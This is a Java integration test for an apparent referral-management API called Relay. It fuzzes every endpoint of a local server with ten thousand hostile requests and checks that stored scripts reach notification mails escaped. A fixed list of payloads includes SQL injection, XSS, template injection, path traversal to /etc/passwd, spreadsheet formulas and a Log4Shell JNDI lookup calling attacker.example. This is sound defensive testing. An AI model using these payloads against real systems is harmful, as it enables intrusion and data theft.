package org.relay.security;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import jakarta.mail.internet.MimeMessage;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.api.Test;
import org.relay.referral.CreateReferralRequest;
import org.relay.referral.CustomerType;
import org.relay.referral.Referral;
import org.relay.referral.ReferralIntake;
import org.relay.referral.ReferralKind;
import org.relay.referral.ReferrerType;
import org.relay.support.RelayIntegrationTest;
import org.relay.support.RelayTestData;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import java.math.BigDecimal;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Collections;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Ten thousand malformed, oversized, injected and scripted requests against every endpoint of Relay's API, its
 * public page and its email action pages: not one may answer 5xx, and a script stored in a referral must come out of
 * the mails as text.
 */
class HostileInputTest extends RelayIntegrationTest {

    private static final int REQUESTS = 10_000;
    /**
     * Tomcat's 8 KB limit covers the request line and all headers together, and this client's headers (Host,
     * Authorization, User-Agent, Content-Type, Content-Length) take a few hundred bytes of it: a URI within 1 KB of
     * the limit may already be refused at the HTTP layer (seen once with 8 100 characters).
     */
    private static final int MAX_REQUEST_LINE = 8 * 1024 - 1024;

    /** Values that have broken web applications before: injections, scripts, templates, odd numbers and text. */
    private static final List<JsonNode> HOSTILE = hostileValues();

    /** One endpoint, called as {@code user} (password = user id in the test bank). */
    private record Endpoint(String method, String path, String body, String user) {
        Endpoint(String method, String path, String body) {
            this(method, path, body, "demo");
        }
    }

    private record Outcome(String request, int status, String response) {
    }

    @Autowired
    ReferralIntake intake;

    @Autowired
    ObjectMapper json;

    @LocalServerPort
    int port;

    @Test
    void ten_thousand_hostile_requests_and_not_one_5xx() throws Exception {
        Referral target = intake.create(RelayTestData.kiarasMortgage());
        String ref = target.getReferenceNumber();
        // a second referral for its reviewer's hostile decisions, so a decision that gets through closes only this one
        Referral reviewed = intake.create(RelayTestData.referral("Rita Review", "MORTGAGE", "250000", "ryan"));
        String reviewer = processEngine.getTaskService().createTaskQuery()
                .processInstanceId(reviewed.getProcessInstanceId()).singleResult().getAssignee();
        List<Endpoint> endpoints = new ArrayList<>(endpoints(ref));
        String review = "/api/referrals/" + reviewed.getReferenceNumber() + "/review";
        endpoints.add(new Endpoint("POST", review, "{\"decision\":\"REASSIGN\",\"toUser\":\"bob\",\"note\":\"n\"}", reviewer));
        endpoints.add(new Endpoint("POST", review, "{\"decision\":\"REJECT\",\"rejectReason\":\"AT_CAPACITY\",\"note\":\"n\"}", reviewer));
        endpoints.add(new Endpoint("POST", review, "{\"decision\":\"ACCEPT\",\"note\":\"n\"}", reviewer));
        Random random = new Random(20261125);
        List<HttpRequest> requests = new ArrayList<>();
        for (int i = 0; i < REQUESTS; i++) {
            requests.add(hostile(endpoints.get(i % endpoints.size()), random));
        }

        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        ExecutorService clients = Executors.newFixedThreadPool(4);
        List<Outcome> serverErrors = Collections.synchronizedList(new ArrayList<>());
        AtomicInteger answered = new AtomicInteger();
        AtomicInteger refusedOversized = new AtomicInteger();
        List<Future<?>> running = new ArrayList<>();
        for (HttpRequest request : requests) {
            running.add(clients.submit(() -> {
                try {
                    HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
                    answered.incrementAndGet();
                    if (response.statusCode() >= 500) {
                        serverErrors.add(new Outcome(request.method() + " " + request.uri(), response.statusCode(),
                                abbreviate(response.body())));
                    }
                } catch (java.io.IOException e) {
                    if (request.uri().toString().length() > MAX_REQUEST_LINE) {
                        // Tomcat refuses a request line over its 8 KB header limit with a 400 and closes the connection;
                        // the client may see the close before the answer: refused at the HTTP layer, not a server error
                        refusedOversized.incrementAndGet();
                    } else {
                        serverErrors.add(new Outcome(request.method() + " " + request.uri(), -1, e.toString()));
                    }
                } catch (Exception e) {
                    serverErrors.add(new Outcome(request.method() + " " + request.uri(), -1, e.toString()));
                }
                return null;
            }));
        }
        for (Future<?> future : running) {
            future.get();
        }
        clients.shutdown();

        Assertions.assertThat(serverErrors).as("requests answered with 5xx (or not at all)").isEmpty();
        Assertions.assertThat(answered.get() + refusedOversized.get()).isEqualTo(REQUESTS);
    }

    @Test
    void a_script_stored_in_a_referral_reaches_the_mail_as_text() throws Exception {
        Referral eve = intake.create(new CreateReferralRequest(ReferralKind.REFERRAL, "PERSON_REFERRAL",
                new CreateReferralRequest.CustomerData(CustomerType.PERSON, "Eve <img src=x onerror=alert(1)>", null, null,
                        "eve@mail.example", "Springfield", "Central", null),
                "MORTGAGE", new CreateReferralRequest.InterestValue(new BigDecimal("250000"), "USD"), "COLLEAGUE",
                new CreateReferralRequest.ReferrerData(ReferrerType.INTERNAL_USER, "ryan", null),
                "<script>alert('notes')</script>"));
        notifyRecipient(eve.getProcessInstanceId());

        List<MimeMessage> mails = mailsTo("alice@relay.example");
        Assertions.assertThat(mails).isNotEmpty();
        String html = htmlOf(mails.get(0));
        Assertions.assertThat(html).isNotNull();
        Assertions.assertThat(html).doesNotContain("<img src=x").doesNotContain("<script>")
                .contains("Eve &lt;img src=x onerror=alert(1)&gt;").contains("&lt;script&gt;");
    }

    private static String htmlOf(jakarta.mail.Part part) throws Exception {
        if (part.isMimeType("text/html")) {
            return (String) part.getContent();
        }
        if (part.getContent() instanceof jakarta.mail.Multipart multipart) {
            for (int i = 0; i < multipart.getCount(); i++) {
                String html = htmlOf(multipart.getBodyPart(i));
                if (html != null) {
                    return html;
                }
            }
        }
        return null;
    }

    private List<Endpoint> endpoints(String ref) throws Exception {
        String referral = json.writeValueAsString(RelayTestData.kiarasMortgage());
        return List.of(
                new Endpoint("POST", "/api/referrals", referral),
                new Endpoint("GET", "/api/referrals/{}", null),
                new Endpoint("GET", "/api/referrals?status={}&page={}&size={}", null),
                new Endpoint("POST", "/api/referrals/" + ref + "/activities",
                        "{\"type\":\"CALL\",\"subject\":\"Called\",\"body\":\"b\",\"durationMinutes\":5,\"sharedWith\":[\"referrer\"],\"recordedBy\":\"demo\"}"),
                new Endpoint("GET", "/api/referrals/{}/activities?sharedWith={}", null),
                new Endpoint("POST", "/api/referrals/" + ref + "/review", "{\"decision\":\"REJECT\",\"rejectReason\":\"AT_CAPACITY\",\"note\":\"n\"}"),
                new Endpoint("POST", "/api/referrals/" + ref + "/reassignment", "{\"requestedBy\":\"jackie\",\"toUser\":\"bob\",\"note\":\"n\"}"),
                new Endpoint("POST", "/api/referrals/" + ref + "/reopen", "{\"requestedBy\":\"alice\",\"reason\":\"r\"}"),
                new Endpoint("POST", "/api/referrals/" + ref + "/merge", "{\"into\":\"REF-000001\",\"requestedBy\":\"alice\",\"note\":\"n\"}"),
                new Endpoint("POST", "/api/referrals/" + ref + "/keep-both", "{\"requestedBy\":\"alice\",\"note\":\"n\"}"),
                new Endpoint("POST", "/api/referrals/" + ref + "/sla-replan", "{\"requestedBy\":\"jackie\"}"),
                new Endpoint("GET", "/api/referrals/{}/opportunity", null),
                new Endpoint("POST", "/api/opportunities/{}/close", "{\"outcome\":\"WON\",\"reason\":\"r\",\"closedBy\":\"alice\"}"),
                new Endpoint("GET", "/api/opportunities/{}", null),
                new Endpoint("GET", "/api/reports/{}?from={}&to={}&queue={}&product={}&source={}&recordType={}&lineOfBusiness={}&period={}&by={}&limit={}&target={}&format={}", null),
                new Endpoint("GET", "/api/audit?referral={}&actor={}&action={}&from={}&to={}&limit={}&format={}", null),
                new Endpoint("GET", "/api/users/{}/open-referrals", null),
                new Endpoint("GET", "/api/recipients/{}", null),
                new Endpoint("PUT", "/api/recipients/{}", "{\"capacity\":10,\"absent\":false,\"active\":true}"),
                new Endpoint("PUT", "/api/advocates/{}", "{\"name\":\"Lena\",\"ownerUserId\":\"bob\",\"active\":true,\"email\":\"l@x.example\"}"),
                new Endpoint("PUT", "/api/customers/{}/advisors/{}", "{\"advisorUserId\":\"wendy\"}"),
                new Endpoint("GET", "/api/customers/{}/advisors", null),
                // queue ids here never name a real group, so the demo queues keep their settings
                new Endpoint("PUT", "/api/queues/zz{}", "{\"managerGroupId\":\"referral-managers\",\"lineOfBusiness\":\"wealth\"}"),
                new Endpoint("GET", "/api/referrers/{}/score", null),
                new Endpoint("GET", "/api/referrers/{}/stats", null),
                new Endpoint("GET", "/api/referrers/top?limit={}", null),
                new Endpoint("GET", "/api/scoring/models?{}={}", null),
                new Endpoint("GET", "/api/imports/{}", null),
                new Endpoint("GET", "/api/imports/{}/errors.csv", null),
                new Endpoint("POST", "/api/imports?source={}&campaign={}&dryRun=true&product={}&charset={}", "MULTIPART"),
                new Endpoint("GET", "/actions/{}", null),
                new Endpoint("POST", "/actions/{}", "FORM"),
                new Endpoint("GET", "/referrals/{}/task", null),
                new Endpoint("GET", "/public/lead?ref={}", null),
                new Endpoint("POST", "/public/lead", "FORM"));
    }

    private HttpRequest hostile(Endpoint endpoint, Random random) {
        StringBuilder path = new StringBuilder();
        String[] parts = endpoint.path().split("\\{}", -1);
        for (int i = 0; i < parts.length; i++) {
            path.append(parts[i]);
            if (i < parts.length - 1) {
                path.append(encode(text(HOSTILE.get(random.nextInt(HOSTILE.size())), random)));
            }
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                .timeout(Duration.ofSeconds(60));
        if (random.nextInt(20) > 0) {
            request.header("Authorization", "Basic " + Base64.getEncoder().encodeToString(
                    (endpoint.user() + ":" + endpoint.user()).getBytes()));
        }
        if (endpoint.body() == null) {
            return request.method(endpoint.method(), HttpRequest.BodyPublishers.noBody()).build();
        }
        if (endpoint.body().equals("FORM")) {
            String form = "rejectReason=" + encode(text(pick(random), random)) + "&note=" + encode(text(pick(random), random))
                    + "&name=" + encode(text(pick(random), random)) + "&email=" + encode(text(pick(random), random))
                    + "&_csrf=" + encode(text(pick(random), random));
            return request.header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString(form)).build();
        }
        if (endpoint.body().equals("MULTIPART")) {
            String boundary = "----relay" + random.nextInt(1_000_000);
            String file = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
                    + text(pick(random), random).replace("\"", "") + ".csv\"\r\nContent-Type: text/csv\r\n\r\n"
                    + "name,email,phone,product\r\n" + text(pick(random), random) + ",x@y.example,1,MORTGAGE\r\n--" + boundary + "--\r\n";
            return request.header("Content-Type", random.nextBoolean() ? "multipart/form-data; boundary=" + boundary
                            : "multipart/form-data")
                    .POST(HttpRequest.BodyPublishers.ofString(file)).build();
        }
        return request.header("Content-Type", random.nextInt(10) == 0 ? "text/plain" : "application/json")
                .method(endpoint.method(), HttpRequest.BodyPublishers.ofString(mutate(endpoint.body(), random))).build();
    }

    /** One of: a field replaced by a hostile value, an unknown field, broken JSON, a huge or deeply nested body. */
    private String mutate(String body, Random random) {
        try {
            int kind = random.nextInt(20);
            if (kind == 0) {
                return body.substring(0, random.nextInt(body.length()));
            }
            if (kind == 1) {
                return "[".repeat(5000) + "]".repeat(5000);
            }
            if (kind == 2) {
                return "{\"notes\":\"" + "A".repeat(2_000_000) + "\"}";
            }
            if (kind == 3) {
                return "";
            }
            JsonNode tree = json.readTree(body);
            List<ObjectNode> objects = new ArrayList<>();
            collectObjects(tree, objects);
            ObjectNode owner = objects.get(random.nextInt(objects.size()));
            List<String> fields = new ArrayList<>();
            owner.fieldNames().forEachRemaining(fields::add);
            if (kind == 4 || fields.isEmpty()) {
                owner.set("unexpected" + random.nextInt(100), pick(random));
            } else {
                int changes = 1 + random.nextInt(3);
                for (int i = 0; i < changes; i++) {
                    owner.set(fields.get(random.nextInt(fields.size())), pick(random));
                }
            }
            return json.writeValueAsString(tree);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static void collectObjects(JsonNode node, List<ObjectNode> objects) {
        if (node instanceof ObjectNode object) {
            objects.add(object);
            for (Iterator<Map.Entry<String, JsonNode>> it = object.fields(); it.hasNext(); ) {
                collectObjects(it.next().getValue(), objects);
            }
        }
    }

    private static JsonNode pick(Random random) {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private static String text(JsonNode value, Random random) {
        return value.isTextual() ? value.asText() : value.toString();
    }

    private static String encode(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String abbreviate(String body) {
        return body == null || body.length() < 300 ? body : body.substring(0, 300) + "…";
    }

    private static List<JsonNode> hostileValues() {
        JsonNodeFactory f = JsonNodeFactory.instance;
        List<JsonNode> values = new ArrayList<>();
        for (String s : List.of("", " ", "null", "undefined", "' OR '1'='1", "1; DROP TABLE referral; --",
                "\" OR \"\"=\"", "REF-000001' UNION SELECT password_ FROM act_id_user --", "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\"><svg onload=alert(1)>", "{{7*7}}", "${7*7}",
                "#{7*7}", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "..%2F..%2Fetc%2Fpasswd",
                "%00", "\u0000", "\u202e\u0041\u0042", "😀😀😀", "Ωmega ß ǅ", "=HYPERLINK(\"http://x\")", "@SUM(1+1)",
                "-1", "0", "9999999999999999999999", "1e309", "NaN", "2026-13-45", "P-1D", "true", "MORTGAGE\nINSURANCE",
                "A".repeat(300), "B".repeat(5000), "C".repeat(70_000), "REF-000001", "alice", "demo", "retail-lending",
                "camunda-admin", "a@b", "not-an-email", "+1 555 0101", "CSV,with,\"quotes\"\r\nnext,row")) {
            values.add(f.textNode(s));
        }
        values.add(f.nullNode());
        values.add(f.numberNode(-1));
        values.add(f.numberNode(Long.MAX_VALUE));
        values.add(f.numberNode(new BigDecimal("1e400")));
        values.add(f.numberNode(0.000001));
        values.add(f.booleanNode(true));
        ArrayNode array = f.arrayNode();
        array.add("x").add(1).addNull();
        values.add(array);
        ObjectNode object = f.objectNode();
        object.put("$gt", "");
        object.set("nested", f.objectNode().put("deeper", "<b>x</b>"));
        values.add(object);
        ArrayNode many = f.arrayNode();
        for (int i = 0; i < 500; i++) {
            many.add("user" + i);
        }
        values.add(many);
        return List.copyOf(values);
    }
}
